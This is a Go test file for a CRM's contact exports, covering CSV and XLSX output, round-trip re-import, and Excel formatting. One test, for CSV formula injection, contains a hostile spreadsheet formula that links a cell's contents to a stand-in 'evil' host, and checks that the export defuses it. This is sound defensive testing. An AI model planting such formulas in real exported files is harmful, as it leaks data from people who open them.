package contact_test

import (
	"archive/zip"
	"bytes"
	"encoding/csv"
	"fmt"
	"io/fs"
	"mime"
	"net/url"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/xuri/excelize/v2"

	"github.com/rapportcrm/rapport/pkg/auth"
	"github.com/rapportcrm/rapport/pkg/servicetest"
	"github.com/rapportcrm/rapport/services/contact"
	"github.com/rapportcrm/rapport/services/contact/importing/importtest"
)

// importOrganisations imports n generated organisations from an XLSX file.
func importOrganisations(t *testing.T, h *servicetest.Harness, n int) {
	t.Helper()
	var file bytes.Buffer
	if err := importtest.Organisations(n, 7).WriteXLSX(&file); err != nil {
		t.Fatal(err)
	}
	tok := h.Token(t, auth.Sales)
	if job := importFile(t, h, tok, "don-vi.xlsx", file.Bytes(), "organizations", 60*time.Second); job.Status != "done" || job.Progress.Created != n || job.Format != "xlsx" {
		t.Fatalf("import: %+v", job)
	}
}

func readCSV(t *testing.T, r servicetest.Response) [][]string {
	t.Helper()
	mustStatus(t, r, 200)
	if !strings.HasPrefix(r.Header.Get("Content-Disposition"), "attachment") {
		t.Fatalf("not an attachment: %v", r.Header)
	}
	rows, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(r.Body, []byte("\ufeff")))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	return rows
}

func readXLSX(t *testing.T, r servicetest.Response) [][]string {
	t.Helper()
	mustStatus(t, r, 200)
	f, err := excelize.OpenReader(bytes.NewReader(r.Body))
	if err != nil {
		t.Fatalf("not a workbook: %v", err)
	}
	defer f.Close()
	rows, err := f.GetRows(f.GetSheetList()[0])
	if err != nil {
		t.Fatal(err)
	}
	return rows
}

func TestExportsStreamEveryMatchingRowAsCSVAndXLSX(t *testing.T) {
	h := servicetest.Start(t, contact.Service(), servicetest.Options{})
	const n = 300 // more than the largest page
	importOrganisations(t, h, n)
	director := h.Token(t, auth.Director) // readers may export

	all := readCSV(t, h.Do(t, "GET", orgs+"/export", director, nil))
	if len(all) != n+1 || all[0][0] != "id" || all[0][1] != "name" || all[0][3] != "tax_code" {
		t.Fatalf("%d rows, header %v", len(all), all[0])
	}
	// Filters are the search's: export what a search finds, all of it.
	var pg struct{ Items []item }
	h.Do(t, "GET", orgs+"?limit=100&q="+url.QueryEscape(all[1][1]), director, nil).JSON(t, &pg)
	found := readCSV(t, h.Do(t, "GET", orgs+"/export?format=csv&q="+url.QueryEscape(all[1][1]), director, nil))
	if len(found) < 2 || len(found)-1 < len(pg.Items) {
		t.Fatalf("search found %d, export %d rows", len(pg.Items), len(found)-1)
	}
	for _, row := range found[1:] {
		if row[1] != all[1][1] && !strings.HasPrefix(row[1], all[1][1]) {
			t.Errorf("export by q %q holds %q", all[1][1], row[1])
		}
	}
	byPhone := readCSV(t, h.Do(t, "GET", orgs+"/export?q="+url.QueryEscape(all[5][9]), director, nil))
	if len(byPhone) != 2 || byPhone[1][0] != all[5][0] {
		t.Fatalf("export by phone %q: %v", all[5][9], byPhone)
	}

	sheet := readXLSX(t, h.Do(t, "GET", orgs+"/export?format=xlsx", director, nil))
	if len(sheet) != n+1 || sheet[0][1] != "name" || sheet[1][0] != all[1][0] || sheet[n][1] != all[n][1] {
		t.Fatalf("xlsx: %d rows, first %v", len(sheet), sheet[1])
	}
	// Accept asks for a workbook as format does; format wins over it.
	accept := map[string]string{"Accept": "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"}
	if sheet := readXLSX(t, send(t, h, "GET", orgs+"/export", director, "", nil, accept)); len(sheet) != n+1 {
		t.Fatalf("xlsx by Accept: %d rows", len(sheet))
	}
	if rows := readCSV(t, send(t, h, "GET", orgs+"/export?format=csv", director, "", nil, accept)); len(rows) != n+1 {
		t.Fatalf("csv by format over Accept: %d rows", len(rows))
	}
	mustStatus(t, h.Do(t, "GET", orgs+"/export?format=pdf", director, nil), 422)
	mustStatus(t, h.Do(t, "GET", orgs+"/export", "", nil), 401)
}

func TestPeopleAndSegmentsExport(t *testing.T) {
	h := servicetest.Start(t, contact.Service(), servicetest.Options{})
	tok := h.Token(t, auth.Sales)
	createPerson(t, h, tok, `{"full_name":"Hồ Thị Xuân","phones":["0912345678"],"tags":["vip"]}`)
	createPerson(t, h, tok, `{"full_name":"Hồ Văn Nam","emails":["nam@example.vn"]}`)
	createPerson(t, h, tok, `{"full_name":"Lý Thường Kiệt"}`)

	rows := readCSV(t, h.Do(t, "GET", people+"/export?q=ho", tok, nil))
	if len(rows) != 3 || rows[0][1] != "full_name" || rows[1][1] != "Hồ Thị Xuân" || rows[1][2] != "+84912345678" || rows[1][slices.Index(rows[0], "tags")] != "vip" {
		t.Fatalf("people export: %v", rows)
	}
	r := h.Do(t, "POST", "/api/contact/v1/segments", tok, `{"name":"VIP","resource":"people","filter":{"tag":"vip"}}`)
	mustStatus(t, r, 201)
	var seg struct{ ID string }
	r.JSON(t, &seg)
	sheet := readXLSX(t, h.Do(t, "GET", "/api/contact/v1/segments/"+seg.ID+"/export?format=xlsx", h.Token(t, auth.Director), nil))
	if len(sheet) != 2 || sheet[1][1] != "Hồ Thị Xuân" {
		t.Fatalf("segment export: %v", sheet)
	}
	mustStatus(t, h.Do(t, "GET", "/api/contact/v1/segments/01900000-0000-7000-8000-000000000000/export", tok, nil), 404)
}

// An export imports back whole: the same files uploaded to another Rapport
// (here a second service), organisations first, export again to the same
// rows, ids aside. Only what the service derives (the current province,
// the follow-up) and the force_reason are ignored on the way in. Links
// travel by name beside an id this Rapport never issued, so the name is
// looked up: a unit's supervising unit,
// listed above or below it, and a person's workplaces with their titles;
// custom fields in columns headed by their names.
func TestAnExportImportsBackWithNothingLost(t *testing.T) {
	h := servicetest.Start(t, contact.Service(), servicetest.Options{})
	tok := h.Token(t, auth.Sales)
	so := create(t, h, tok, orgs, `{"name":"Sở Giáo dục Hà Nội","kinds":["supervising_unit"],"stage":"lead"}`)
	// Exports list units by name: the Phòng comes before the Sở above it.
	phong := create(t, h, tok, orgs, `{"name":"Phòng Giáo dục Ba Đình","kinds":["supervising_unit"],"supervising_unit_id":"`+so+`"}`)
	school := create(t, h, tok, orgs, `{"name":"Trường Tiểu học Kim Đồng, Ba Đình","kinds":["school","partner"],"tax_code":"0101234567",
 "province":"Bình Dương","district":"Thủ Dầu Một","ward":"Phú Cường","address":"12 Lê Lợi","phones":["0274 382 2222","0912345678"],
 "emails":["vp@kimdong.edu.vn"],"website":"https://kimdong.edu.vn","stage":"customer","tags":["vip","2026"],"notes":"Kế toán nghỉ thứ Sáu.",
 "supervising_unit_id":"`+phong+`","custom_fields":{"student_count":850}}`)
	// Relatives are rows of the same file, above or below, naming each
	// other too; Út has no phone or email, so her id names her.
	ut := create(t, h, tok, people, `{"full_name":"Phan Thị Út"}`)
	chauLinks := `{"kind":"works_at","party_id":"` + so + `"},{"kind":"works_at","party_id":"` + school + `","title":"Kế toán"},
 {"kind":"parent_of","party_id":"` + ut + `"}`
	chau := create(t, h, tok, people, `{"full_name":"Đỗ Minh Châu","phones":["0987654321"],"emails":["chau@example.vn"],"zalo_id":"chau.do",
 "birthday":"1988-02-29","tags":["phụ huynh"],"notes":"Gọi sau 17h.",
 "important_dates":[{"label":"Ngày cưới","date":"2015-06-20"},{"label":"Con vào lớp 1: Minh","date":"2024-09-05"}],
 "consents":{"zalo":{"granted":true,"at":"2026-03-01T09:30:00.25+07:00","source":"phiếu đăng ký; hội thảo Hà Nội"},
  "email":{"granted":false,"at":"2026-04-02T08:00:00Z","source":"thư trả lời"}},
 "relationships":[`+chauLinks+`]}`)
	tam := create(t, h, tok, people, `{"full_name":"Lê Văn Tám","relationships":[{"kind":"works_at","party_id":"`+school+`","title":"Hiệu trưởng"},
 {"kind":"guardian_of","party_id":"`+ut+`"},{"kind":"related_to","party_id":"`+chau+`","label":"đồng nghiệp"}],
 "consents":{"phone":{"granted":true,"at":"2026-10-30T15:00:00+07:00","source":"cuộc gọi"}}}`)
	mustStatus(t, h.Do(t, "PATCH", people+"/"+chau, tok, `{"relationships":[`+chauLinks+`,
 {"kind":"related_to","party_id":"`+tam+`","label":"đồng nghiệp"}]}`), 200)

	for _, format := range []string{"csv", "xlsx"} {
		t.Run(format, func(t *testing.T) {
			read := readCSV
			if format == "xlsx" {
				read = readXLSX
			}
			other := servicetest.Start(t, contact.Service(), servicetest.Options{})
			otherTok := other.Token(t, auth.Lead)  // the file's owners are kept, not the importer
			var unitsBefore, unitsAfter [][]string // the organisations' rows, which people's rows name by id
			for _, c := range []struct {
				path, resource string
				ignored        []string
			}{
				// The id column is read, to find the stored party a row
				// is; this Rapport never issued these ids, so every row
				// is created. What the service derives (today's province,
				// the follow-up its interactions set) is not read, nor
				// why a party was created beside another (its history).
				{orgs, "organizations", []string{"current_province", "next_action_on", "force_reason"}},
				{people, "people", []string{"next_action_on", "force_reason"}},
			} {
				r := h.Do(t, "GET", c.path+"/export?format="+format, tok, nil)
				before := read(t, r)
				up := uploadForm(t, other, otherTok, "export."+format, r.Body, map[string]string{"resource": c.resource})
				mustStatus(t, up, 202)
				var job importJob
				up.JSON(t, &job)
				if !slices.Equal(job.IgnoredColumns, c.ignored) {
					t.Errorf("%s: ignored %q, want %q", c.resource, job.IgnoredColumns, c.ignored)
				}
				if job = waitForImport(t, other, otherTok, job.ID, 30*time.Second); job.Progress.Created != len(before)-1 {
					t.Fatalf("import %s: %+v", c.resource, job)
				}
				after := read(t, other.Do(t, "GET", c.path+"/export?format="+format, otherTok, nil))
				if len(after) != len(before) {
					t.Fatalf("%d %s exported again, want %d", len(after), c.resource, len(before))
				}
				if c.resource == "organizations" {
					unitsBefore, unitsAfter = before[1:], after[1:]
				}
				before, after = byName(before, unitsBefore...), byName(after, unitsAfter...)
				for i := range before {
					if !slices.Equal(before[i][1:], after[i][1:]) {
						t.Errorf("%s row %d\n before %q\n after  %q", c.resource, i, before[i], after[i])
					}
				}
			}
		})
	}
	// The links are written by name, with what tells them from namesakes in
	// brackets, the people's in the order they hold them; a consent says
	// when and where it was given.
	rows := readCSV(t, h.Do(t, "GET", people+"/export", tok, nil))
	want := [][]string{
		{"full_name", "workplace", "title", "important_dates", "consent:email", "consent:zalo", "consent:phone", "parent_of", "guardian_of", "related_to"},
		{"Đỗ Minh Châu", "Sở Giáo dục Hà Nội (" + so + "); Trường Tiểu học Kim Đồng, Ba Đình (" + school + ")", "; Kế toán",
			"Ngày cưới: 2015-06-20; Con vào lớp 1: Minh: 2024-09-05", "refused; 2026-04-02T08:00:00Z; thư trả lời",
			"granted; 2026-03-01T09:30:00.25+07:00; phiếu đăng ký; hội thảo Hà Nội", "",
			"Phan Thị Út (" + ut + ")", "", "đồng nghiệp: Lê Văn Tám (" + tam + ")"},
		{"Lê Văn Tám", "Trường Tiểu học Kim Đồng, Ba Đình (" + school + ")", "Hiệu trưởng", "", "", "", "granted; 2026-10-30T15:00:00+07:00; cuộc gọi",
			"", "Phan Thị Út (" + ut + ")", "đồng nghiệp: Đỗ Minh Châu (+84987654321)"},
		{"Phan Thị Út", "", "", "", "", "", "", "", "", ""},
	}
	for i, row := range rows {
		var got []string
		for _, col := range want[0] {
			got = append(got, row[slices.Index(rows[0], col)])
		}
		if !slices.Equal(got, want[i]) {
			t.Errorf("people export row %d: %q, want %q", i, got, want[i])
		}
	}
	units := readCSV(t, h.Do(t, "GET", orgs+"/export", tok, nil))
	if i, j := slices.Index(units[0], "supervising_unit"), slices.Index(units[0], "custom:student_count"); i < 0 || j < 0 ||
		units[1][i] != "Sở Giáo dục Hà Nội ("+so+")" || units[3][i] != "Phòng Giáo dục Ba Đình ("+phong+")" || units[3][j] != "850" {
		t.Errorf("organisations export: %q", units)
	}
}

// byName writes, in every cell of an export, the id of each party of its
// rows, or of more (rows of another export), as its name: another Rapport
// gives the parties it imports ids of its own.
func byName(rows [][]string, more ...[]string) [][]string {
	out := make([][]string, len(rows))
	for i, row := range rows {
		out[i] = slices.Clone(row)
		for j := range out[i] {
			for _, other := range append(rows[1:len(rows):len(rows)], more...) {
				out[i][j] = strings.ReplaceAll(out[i][j], other[0], "id of "+other[1])
			}
		}
	}
	return out
}

// A CSV export writes a text a spreadsheet would run as a formula with a
// leading "'" (OWASP CSV injection), but not phone numbers or numbers,
// and the importer drops that quote again: the export imports back whole.
func TestACSVExportMakesFormulasInertAndImportsBackTheSame(t *testing.T) {
	h := servicetest.Start(t, contact.Service(), servicetest.Options{})
	tok := h.Token(t, auth.Sales)
	const evil = `=HYPERLINK("http://evil"&A1,"x")`
	createPerson(t, h, tok, `{"full_name":"=HYPERLINK(\"http://evil\"&A1,\"x\")","phones":["+84912345678","0987654321"],"notes":"+SUM(1,2)","tags":["@all","-1"]}`)
	r := h.Do(t, "GET", people+"/export?format=csv", tok, nil)
	rows := readCSV(t, r)
	cell := func(col string) string { return rows[1][slices.Index(rows[0], col)] }
	for col, want := range map[string]string{"full_name": "'" + evil, "notes": "'+SUM(1,2)", "phones": "+84912345678; +84987654321", "tags": "'@all; -1"} {
		if got := cell(col); got != want {
			t.Errorf("%s: %q, want %q", col, got, want)
		}
	}
	other := servicetest.Start(t, contact.Service(), servicetest.Options{})
	otherTok := other.Token(t, auth.Sales)
	if job := importFile(t, other, otherTok, "export.csv", r.Body, "people", 30*time.Second); job.Status != "done" || job.Progress.Created != 1 {
		t.Fatalf("import back: %+v", job)
	}
	if got := namePairs(t, other, `SELECT name, (doc->>'notes') || ' ' || (doc->>'tags') FROM person`); got[evil] != `+SUM(1,2) ["@all", "-1"]` {
		t.Fatalf("imported back: %v", got)
	}
}

func TestLabelsAndTagsComeBackFromAnExportAsTheyWent(t *testing.T) {
	h := servicetest.Start(t, contact.Service(), servicetest.Options{})
	tok := h.Token(t, auth.Sales)
	uncle := create(t, h, tok, people, `{"full_name":"Trần Văn Chú","phones":["0912000111"]}`)
	createPerson(t, h, tok, fmt.Sprintf(`{"full_name":"Trần Thị Cháu","tags":["khách: VIP"],
 "relationships":[{"kind":"related_to","label":"họ hàng: chú","party_id":%q}],
 "important_dates":[{"label":"Ngày: cưới","date":"2015-06-20"}]}`, uncle))

	// A separator inside a tag, label or title would split it in a file.
	for body, field := range map[string]string{
		`{"full_name":"An","tags":["Hà Nội, 2026"]}`: "tags[0]",
		`{"full_name":"An","tags":["a","b;c"]}`:      "tags[1]",
		fmt.Sprintf(`{"full_name":"An","relationships":[{"kind":"related_to","label":"vợ; mẹ","party_id":%q}]}`, uncle): "relationships[0].label",
		`{"full_name":"An","important_dates":[{"label":"cưới; hỏi","date":"2015-06-20"}]}`:                              "important_dates[0].label",
		`{"full_name":"Bé Na; Bé Nô"}`: "full_name",
	} {
		mustName(t, h.Do(t, "POST", people, tok, body), field, `may not hold`)
	}
	mustName(t, h.Do(t, "POST", orgs, tok, `{"name":"Trung tâm GDNN; GDTX Quận 1","kinds":["school"]}`), "name", "may not hold")
	mustName(t, h.Do(t, "POST", people+"/bulk-changes", tok, `{"filter":{"tag":"khách: VIP"},"add_tags":["x,y"]}`), "add_tags[0]", `may not hold`)

	r := h.Do(t, "GET", people+"/export?format=csv", tok, nil)
	mustStatus(t, r, 200)
	other := servicetest.Start(t, contact.Service(), servicetest.Options{})
	if job := importFile(t, other, other.Token(t, auth.Sales), "export.csv", r.Body, "people", 30*time.Second); job.Status != "done" || job.Progress.Created != 2 {
		t.Fatalf("import back: %+v", job)
	}
	got := namePairs(t, other, `SELECT p.doc->>'full_name', concat_ws(' | ', p.doc->>'tags', r->>'label', q.doc->>'full_name', p.doc->'important_dates'->0->>'label')
 FROM person p LEFT JOIN jsonb_array_elements(p.doc->'relationships') r ON true LEFT JOIN person q ON q.id::text = r->>'party_id'`)
	if want := `["khách: VIP"] | họ hàng: chú | Trần Văn Chú | Ngày: cưới`; got["Trần Thị Cháu"] != want {
		t.Fatalf("imported back: %q, want %q", got["Trần Thị Cháu"], want)
	}
}

// An XLSX export is made for Excel: a bold header that stays in view and
// filters, dates as dates written day first, numbers as numbers, phones
// and tax codes as text that keeps its leading zero. A segment's file is
// named as the segment.
func TestAnXLSXExportOpensInExcelWithCellsOfTheirType(t *testing.T) {
	h := servicetest.Start(t, contact.Service(), servicetest.Options{})
	tok := h.Token(t, auth.Sales)
	createPerson(t, h, tok, `{"full_name":"Đỗ Minh Châu","phones":["0987654321"],"birthday":"1988-02-29"}`)
	create(t, h, tok, orgs, `{"name":"Trường Kim Đồng","kinds":["school"],"tax_code":"0101234567","custom_fields":{"student_count":850}}`)

	open := func(path string) (*excelize.File, string, servicetest.Response) {
		t.Helper()
		r := h.Do(t, "GET", path, tok, nil)
		mustStatus(t, r, 200)
		f, err := excelize.OpenReader(bytes.NewReader(r.Body))
		if err != nil {
			t.Fatalf("%s: not a workbook: %v", path, err)
		}
		t.Cleanup(func() { f.Close() })
		return f, f.GetSheetList()[0], r
	}
	cellOf := func(f *excelize.File, sheet, column string) string {
		t.Helper()
		rows, _ := f.GetRows(sheet)
		i := slices.Index(rows[0], column)
		if i < 0 {
			t.Fatalf("no column %s in %q", column, rows[0])
		}
		name, _ := excelize.CoordinatesToCellName(i+1, 2)
		return name
	}
	f, sheet, peopleXLSX := open(people + "/export?format=xlsx")
	birthday := cellOf(f, sheet, "birthday")
	if v, _ := f.GetCellValue(sheet, birthday); v != "29/02/1988" {
		t.Errorf("the birthday reads %q", v)
	}
	if v, _ := f.GetCellValue(sheet, birthday, excelize.Options{RawCellValue: true}); v != "32202" {
		t.Errorf("the birthday is not a date cell: it holds %q", v)
	}
	if typ, _ := f.GetCellType(sheet, cellOf(f, sheet, "phones")); typ == excelize.CellTypeNumber || typ == excelize.CellTypeUnset {
		t.Errorf("the phone is a cell of type %v", typ)
	}
	// A blank cell is not written (most of a person's are), and its column
	// is text, so that a phone typed in it later keeps its leading zero.
	notes := cellOf(f, sheet, "notes")
	if xml := sheetXML(t, peopleXLSX.Body); bytes.Contains(xml, []byte(`r="`+notes+`"`)) {
		t.Errorf("the blank %s is written", notes)
	}
	if id, err := f.GetColStyle(sheet, strings.TrimRight(notes, "0123456789")); err != nil {
		t.Error(err)
	} else if s, err := f.GetStyle(id); err != nil || s.NumFmt != 49 {
		t.Errorf("the notes column is not text: %+v %v", s, err)
	}
	style, _ := f.GetCellStyle(sheet, "A1")
	if s, err := f.GetStyle(style); err != nil || s.Font == nil || !s.Font.Bold {
		t.Errorf("the header is not bold: %+v %v", s, err)
	}
	if panes, err := f.GetPanes(sheet); err != nil || !panes.Freeze || panes.YSplit != 1 {
		t.Errorf("the header does not stay in view: %+v %v", panes, err)
	}
	if tables, err := f.GetTables(sheet); err != nil || len(tables) != 1 || tables[0].Range != "A1:"+strings.TrimSuffix(lastColumn(t, f, sheet), "1")+"2" {
		t.Errorf("the rows are no table to filter: %+v %v", tables, err)
	}

	f, sheet, _ = open(orgs + "/export?format=xlsx")
	if v, _ := f.GetCellValue(sheet, cellOf(f, sheet, "tax_code")); v != "0101234567" {
		t.Errorf("the tax code reads %q", v)
	}
	if typ, _ := f.GetCellType(sheet, cellOf(f, sheet, "custom:student_count")); typ != excelize.CellTypeNumber && typ != excelize.CellTypeUnset {
		t.Errorf("the student count is a cell of type %v", typ)
	}

	r := h.Do(t, "POST", "/api/contact/v1/segments", tok, `{"name":"Trường HN/HCM","resource":"organizations","filter":{"kind":"school"}}`)
	mustStatus(t, r, 201)
	var seg struct{ ID string }
	r.JSON(t, &seg)
	_, _, r = open("/api/contact/v1/segments/" + seg.ID + "/export?format=xlsx")
	_, params, err := mime.ParseMediaType(r.Header.Get("Content-Disposition"))
	if err != nil || params["filename"] != "Trường HN-HCM.xlsx" {
		t.Errorf("the segment's file: %q %v", r.Header.Get("Content-Disposition"), err)
	}
}

// sheetXML returns the XML of a workbook's first sheet.
func sheetXML(t *testing.T, file []byte) []byte {
	t.Helper()
	zr, err := zip.NewReader(bytes.NewReader(file), int64(len(file)))
	if err != nil {
		t.Fatal(err)
	}
	b, err := fs.ReadFile(zr, "xl/worksheets/sheet1.xml")
	if err != nil {
		t.Fatal(err)
	}
	return b
}

// lastColumn is the header's last cell, as "F1".
func lastColumn(t *testing.T, f *excelize.File, sheet string) string {
	t.Helper()
	rows, _ := f.GetRows(sheet)
	name, _ := excelize.CoordinatesToCellName(len(rows[0]), 1)
	return name
}
